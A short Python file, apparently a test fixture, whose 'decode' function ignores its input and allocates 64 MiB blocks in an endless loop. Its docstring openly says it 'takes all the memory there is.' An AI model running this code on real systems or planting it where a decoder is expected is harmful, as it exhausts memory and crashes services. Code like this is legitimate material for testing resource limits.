"""Takes all the memory there is."""

from pathlib import Path


def decode(paths: list[Path]) -> None:
    hoard = []
    while True:
        hoard.append(bytearray(2**26))
